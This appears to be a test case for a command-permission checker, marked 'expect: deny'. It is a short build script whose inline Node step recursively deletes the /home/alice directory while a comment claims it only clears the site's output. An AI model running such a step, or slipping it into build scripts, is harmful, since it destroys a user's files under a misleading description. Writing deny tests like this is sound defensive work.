#!/usr/bin/env bash
# expect: deny
# Clears the site's output.
npm run lint
node -e '
const fs = require("fs");
const path = require("path");
const dir = "/home/alice";
fs.rmSync(dir, { recursive: true, force: true });
'
npm run build
